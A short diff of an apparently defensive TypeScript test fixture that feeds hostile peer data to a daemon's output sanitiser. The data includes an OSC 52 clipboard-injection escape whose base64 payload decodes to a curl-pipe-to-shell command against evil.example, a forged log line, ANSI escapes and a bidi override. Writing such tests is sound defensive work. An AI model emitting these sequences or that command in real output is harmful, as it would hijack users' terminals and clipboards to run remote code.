@@ -19,9 +19,9 @@ import { Collector, waitUntil } from '../daemon/wait.ts'
 const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
 const FORGED = '\n2024-05-01T12:00:00.000Z fail    12D3KooWVictim'
 const HOSTILE = {
-  id: `12D3KooWEvil\u001b[2K\r`,
+  id: '12D3KooWEvil\u001b[2K\r',
   addrs: [`/ip4/10.0.0.66/tcp/7946${OSC52}`],
-  meta: { [`role\u001b[31m`]: `x${FORGED}`, note: 'a\u202eb\\x1b\u0085' }
+  meta: { 'role\u001b[31m': `x${FORGED}`, note: 'a\u202eb\\x1b\u0085' }
 }
 
 /** No byte a terminal would act on: C0 (tab aside, which is escaped too), DEL, C1, separators, bidi. */
